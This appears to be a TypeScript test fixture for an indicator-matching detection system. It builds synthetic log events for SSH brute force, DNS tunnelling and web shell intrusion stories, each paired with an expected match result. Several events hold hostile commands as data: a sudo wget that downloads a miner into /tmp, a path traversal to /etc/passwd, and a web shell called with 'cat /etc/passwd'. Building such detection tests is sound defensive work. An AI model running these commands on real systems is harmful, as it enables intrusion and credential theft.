import { IOC } from "./feed-events.ts";
import { fileAdded } from "./file-shapes.ts";
import { firewall, packetbeat } from "./json-shapes.ts";
import { sshd, syslog, web } from "./shape.ts";
import { loader, phishing } from "./stories-workstations.ts";
import { CHROME_EXE, FIREFOX, min, sysmonHashes, type Told, told } from "./told.ts";
import { connection, dnsQuery, process } from "./windows-shapes.ts";

const FOG_EXE = "C:\\Windows\\Temp\\fogsvc.exe";

const bruteforce = told("bruteforce", [
  [
    min(1, 0),
    IOC.kelpHost,
    "match",
    "failed logins from outside: at most 30",
    sshd("files", "5710", "oracle", IOC.kelpHost, 40122),
  ],
  [min(1, 40), IOC.kelpHost, "match", "again: counted", sshd("files", "5760", "root", IOC.kelpHost, 40188)],
  [
    min(3, 0),
    IOC.kelpHost,
    "match",
    "Wazuh's own brute-force rule, same address",
    sshd("files", "5763", "root", IOC.kelpHost, 40260),
  ],
  [
    min(5, 10),
    IOC.kelpNetwork,
    "match",
    "an address inside the listed network",
    sshd("files", "5760", "admin", "198.18.68.17", 51002),
  ],
  [
    min(5, 40),
    IOC.kelpV6,
    "match",
    "an IPv6 node, written in full in the log",
    sshd("files", "5710", "deploy1", "3ffe:1900:4545:0066:0000:0000:0000:0021", 33990),
  ],
  [
    min(8, 30),
    IOC.kelpOperator,
    "match",
    "accepted: a success, so at least 70",
    sshd("files", "5715", "deploy", IOC.kelpOperator, 60211),
  ],
  [
    min(8, 52),
    IOC.kelpUrl,
    "match",
    "the URL in a sudo command",
    syslog("files", "5402", {
      program: "sudo",
      tag: "sudo",
      text: `  deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget -q ${IOC.kelpUrl} -O /tmp/.kelp/kelp.x86`,
      decoder: { parent: "sudo", name: "sudo", ftscomment: "First time user executed the sudo command" },
      data: {
        srcuser: "deploy",
        dstuser: "root",
        tty: "pts/1",
        pwd: "/tmp",
        command: `/usr/bin/wget -q ${IOC.kelpUrl} -O /tmp/.kelp/kelp.x86`,
      },
    }),
  ],
  [
    min(9, 5),
    IOC.kelp.sha256,
    "match",
    "the miner on disk: hash and name of one composite",
    fileAdded("files", "/tmp/.kelp/kelp.x86", 1048576, IOC.kelp),
  ],
  [
    min(9, 30),
    IOC.kelpPool,
    "match",
    "the mining pool",
    packetbeat("10.20.1.15", "10.20.2.5", IOC.kelpPool, [{ type: "A", data: "198.19.77.5" }]),
  ],
]);

const labels = [
  "4d5a90000300",
  "7b226f73223a",
  "2257696e2d44",
  "4330312e7465",
  "726e2e6c6f63",
  "616c222c2275",
  "7365727322",
  "6e65787400",
];
const tunnel = told("tunnel", [
  [
    min(13, 50),
    IOC.fog.sha256,
    "match",
    "the tool starts on the domain controller",
    process(
      "dc",
      "100150",
      FOG_EXE,
      FOG_EXE,
      "C:\\Windows\\System32\\services.exe",
      sysmonHashes(IOC.fog, "9d1f0c36ab2e47d58f60a1b2c3d4e5f6"),
    ),
  ],
  ...labels.map(
    (label, n) =>
      [
        min(14) + n * 45,
        IOC.fogDomain,
        "match",
        n === 0 ? "a name below the listed domain" : "again: one indicator, one machine; counted, not sent",
        dnsQuery("dc", FOG_EXE, `${label}.${n}.t.${IOC.fogDomain}`, "type:  16 ;"),
      ] as const,
  ),
  [
    min(14, 3),
    IOC.fogDomain,
    "match",
    "Packetbeat on the wire; the answer is listed too, by two organisations",
    packetbeat(
      "10.20.2.5",
      "198.19.0.53",
      `9f2c11.t.${IOC.fogDomain}`,
      [
        { type: "NS", data: `ns1.${IOC.fogDomain}` },
        { type: "A", data: IOC.fogServer },
      ],
      "NS",
    ),
  ],
  [
    min(18, 30),
    IOC.fogDomain,
    "match",
    "through 8.8.8.8: the resolver is explained away, the name leads",
    packetbeat("10.20.2.5", "8.8.8.8", `a81e07.t.${IOC.fogDomain}`, [{ type: "TXT", data: "b2s=" }], "TXT"),
  ],
  [
    min(19, 5),
    IOC.fogServer,
    "match",
    "the firewall: straight to the name server",
    firewall("pass", "10.20.2.5", IOC.fogServer, 53, "DNS"),
  ],
]);

const scan = (at: number, rule: string, request: string, status: number, what: string) =>
  [at, IOC.scanner, "match", what, web(rule, IOC.scanner, request, status, IOC.scannerAgent)] as const;
const webshell = told("webshell", [
  [
    min(15, 52),
    "198.18.120.9",
    "match",
    "denied at the firewall: at most 30",
    firewall("deny", "198.18.120.9", "10.20.1.11", 8080, "HTTP.ALT"),
  ],
  scan(min(16, 0), "31101", "GET /wp-login.php", 404, "the scanner, by address (its user agent alone would be weak)"),
  scan(min(16, 4), "31101", "GET /.env", 404, "again: counted"),
  scan(min(16, 9), "31516", "GET /backup/wp-config.php.bak", 404, "again: counted"),
  [
    min(17, 20),
    IOC.shellUrl,
    "match",
    "a listed URL in the query string",
    web("31106", IOC.scanner, `POST /tools/import.php?src=${IOC.shellUrl}&x=../../etc/passwd`, 200, IOC.scannerAgent),
  ],
  [
    min(17, 25),
    IOC.shell.sha256,
    "match",
    "the web shell on disk",
    fileAdded("web", "/var/www/html/uploads/barnacle.php", 6120, IOC.shell, "www-data"),
  ],
  [
    min(20, 10),
    "198.18.121.77",
    "match",
    "its operator calls",
    web("31106", "198.18.121.77", "GET /uploads/barnacle.php?c=cat%20/etc/passwd", 200, FIREFOX),
  ],
]);

const resolvers = told("resolvers", [
  [
    min(4, 20),
    "8.8.8.8",
    "benign",
    "a printer asks 8.8.8.8",
    packetbeat("10.20.4.31", "8.8.8.8", "time.printer-vendor-demo.com", [{ type: "A", data: "198.19.30.4" }]),
  ],
  [min(12, 45), "8.8.8.8", "benign", "a guest asks 8.8.8.8", firewall("pass", "10.20.5.104", "8.8.8.8", 53, "DNS")],
  [
    min(22, 15),
    "8.8.8.8",
    "benign",
    "a printer asks 8.8.8.8",
    packetbeat("10.20.4.31", "8.8.8.8", "status.printer-vendor-demo.com", [{ type: "A", data: "198.19.30.5" }]),
  ],
  [
    min(26, 40),
    "8.8.8.8",
    "benign",
    "a browser's DNS over HTTPS",
    connection("anna", CHROME_EXE, "8.8.8.8", 443, 53311),
  ],
  [min(30, 5), "8.8.8.8", "benign", "a guest asks 8.8.8.8", firewall("pass", "10.20.5.117", "8.8.8.8", 53, "DNS")],
  [
    min(37, 50),
    "8.8.8.8",
    "benign",
    "a printer asks 8.8.8.8",
    packetbeat("10.20.4.31", "8.8.8.8", "time.printer-vendor-demo.com", [{ type: "A", data: "198.19.30.4" }]),
  ],
]);

const refused: Told[] = [
  ...told("loader", [
    [
      min(7, 45),
      IOC.emptySha256,
      "none",
      "an empty file is added; its hash was refused",
      fileAdded(
        "web",
        "/var/www/html/cache/.keep",
        0,
        {
          md5: "d41d8cd98f00b204e9800998ecf8427e",
          sha1: "da39a3ee5e6b4b0d3255bfef95601890afd80709",
          sha256: IOC.emptySha256,
        },
        "www-data",
      ),
    ],
  ]),
  ...told("tunnel", [
    [
      min(23, 20),
      "co.uk",
      "none",
      "an ordinary name under co.uk; the suffix was refused",
      packetbeat("10.20.3.21", "10.20.2.5", "www.tea-and-biscuits-shop-demo.co.uk", [
        { type: "A", data: "198.19.44.12" },
      ]),
    ],
  ]),
  ...told("bruteforce", [
    [
      min(28, 15),
      "10.0.0.0/8",
      "none",
      "an inside address; the network was refused",
      sshd("files", "5715", "backup", "10.20.1.40", 40102),
    ],
  ]),
];

export const TOLD: readonly Told[] = [
  ...phishing,
  ...loader,
  ...bruteforce,
  ...tunnel,
  ...webshell,
  ...resolvers,
  ...refused,
];
